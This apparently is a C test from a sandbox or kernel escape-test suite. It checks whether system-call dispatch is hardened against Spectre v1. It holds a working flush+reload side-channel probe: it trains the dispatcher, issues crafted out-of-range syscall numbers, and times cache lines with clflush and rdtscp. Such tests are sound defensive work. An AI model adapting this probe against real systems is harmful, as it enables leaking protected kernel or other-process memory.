/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Trains the system-call dispatch with good numbers, then calls numbers far beyond the table that would select memory of the program's choice (Spectre v1).
 * Stopped by: the number is masked behind the bounds check. Passes unless the line that the number selects is cached far more often than its neighbours,
 * whichever it is.
 * Escape-Expect: stopped: no line is cached by numbers beyond the table
 */
#include <x86intrin.h>

#include "escape/escape.h"

#define LINES  16
#define ROUNDS 60

static uint8_t probe[LINES * 4096] __attribute__((aligned(4096)));

static uint64_t time_of(const volatile uint8_t *p)
{
	unsigned aux;
	uint64_t start;

	_mm_mfence();
	start = __rdtscp(&aux);
	(void)*p;
	_mm_lfence();
	return __rdtscp(&aux) - start;
}

/* How often each line was cached after numbers that would select line @target. */
static void measure(int target, uint64_t hit, int fast[LINES])
{
	memset(fast, 0, LINES * sizeof(fast[0]));
	for (int n = 0; n < ROUNDS; n++) {
		for (int i = 0; i < LINES; i++)
			_mm_clflush(&probe[i * 4096]);
		for (int i = 0; i < 30; i++)
			syscall(SYS_getppid);
		/* As an index of 8, 16, 32 or 64 bytes a row: the row would be in the probe array, seen from the arena. */
		for (int shift = 3; shift <= 6; shift++) {
			long number = (long)((uintptr_t)&probe[target * 4096] - ARENA) >> shift;

			errno = 0;
			CHECK(syscall(number) == -1 && errno == ENOSYS);
		}
		for (int i = 0; i < LINES; i++)
			fast[(i * 7) % LINES] += time_of(&probe[(i * 7) % LINES * 4096]) <= hit * 2;
	}
}

/* Prefetchers and what else the machine does favour some lines, always the same ones: a leak follows the target. */
void attempt(void)
{
	static const int targets[] = { 2, 5, 8, 11, 14 };
	int fast[LINES], followed = 0, all = sizeof(targets) / sizeof(targets[0]);
	uint64_t hit = UINT64_MAX;

	memset(probe, 1, sizeof(probe));
	for (int i = 0; i < 100; i++) {
		uint64_t t = time_of(probe);

		hit = t < hit ? t : hit;
	}
	for (int i = 0; i < all; i++) {
		int target = targets[i];

		measure(target, hit, fast);
		followed += fast[target] > ROUNDS * 3 / 4 && fast[target - 1] < ROUNDS / 4 &&
			    fast[target + 1] < ROUNDS / 4;
	}
	if (followed == all)
		escaped("numbers beyond the table cached the line they select, for %d of %d lines",
			followed, all);
	stopped("no line is cached by numbers beyond the table");
}
